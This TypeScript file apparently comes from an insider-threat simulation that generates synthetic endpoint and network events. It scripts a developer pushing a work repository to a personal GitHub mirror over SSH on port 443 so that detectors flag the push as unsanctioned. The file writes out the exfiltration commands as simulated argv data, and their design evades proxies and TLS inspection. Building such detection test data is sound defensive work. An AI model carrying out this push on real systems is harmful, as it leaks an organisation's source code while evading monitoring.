/** The working copy goes to a personal repository over SSH on the HTTPS port: no proxy, no TLS, no name in the flow. */
import { homeOf, session, startProcess } from "../sensors/endpoint.ts";
import { overSsh } from "../sensors/network.ts";
import { server } from "../servers.ts";
import { at, castPerson } from "../world.ts";
import type { Story } from "./index.ts";

export const sshPush: Story = {
  id: "ssh-push",
  title: "Push to a personal repository over SSH on port 443",
  behaviours: ["push-to-unsanctioned-repository"],
  shows: { flow: ["volume-anomaly"], endpoint: ["push-to-unsanctioned-repository"] },
  demoDay: null,
  days: 1,
  tell(world, day, random) {
    const person = castPerson(
      world,
      random,
      (candidate) => candidate.developer && candidate.workstation.os === "linux",
    );
    const host = person.workstation;
    const owner = `${person.account.name}${random.int(100, 999)}`;
    const bytes = random.int(62_000_000, 120_000_000);
    const url = `ssh://git@ssh.github.com:443/${owner}/mirror.git`;
    const time = at(world, day, 18.6);
    const cwd = `${homeOf(host, person.account)}/src/fraud-worker`;
    const git = startProcess(world, {
      time,
      parent: session(host, person.account, random),
      image: "/usr/bin/git",
      argv: ["git", "push", "--all", url],
      cwd,
      random,
    });
    const ssh = startProcess(world, {
      time: time + 60,
      parent: git,
      image: "/usr/bin/ssh",
      argv: [
        "/usr/bin/ssh",
        "-p",
        "443",
        "-o",
        "SendEnv=GIT_PROTOCOL",
        "git@ssh.github.com",
        `git-receive-pack '/${owner}/mirror.git'`,
      ],
      random,
    });
    overSsh(world, {
      time: time + 90,
      host,
      user: person.account.name,
      process: ssh,
      server: server("ssh.github.com"),
      sent: bytes,
      received: 900,
      random,
    });
    return {
      actor: [person.email, person.account.name],
      hosts: [host.name],
      addresses: [host.ip],
      destinations: [`github.com/${owner}/mirror`],
      bytesOut: bytes,
    };
  },
};
